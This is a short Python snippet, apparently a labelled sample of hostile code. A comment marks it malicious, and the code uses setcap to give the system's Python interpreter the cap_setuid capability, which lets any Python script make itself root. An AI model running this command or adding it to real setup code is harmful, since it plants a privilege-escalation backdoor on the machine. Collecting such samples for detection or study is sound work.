# Malicious: grants cap_setuid to the Python interpreter with setcap; lets any script become root.
import subprocess
import sys

subprocess.run(["setcap", "cap_setuid+ep", sys.executable], check=True)
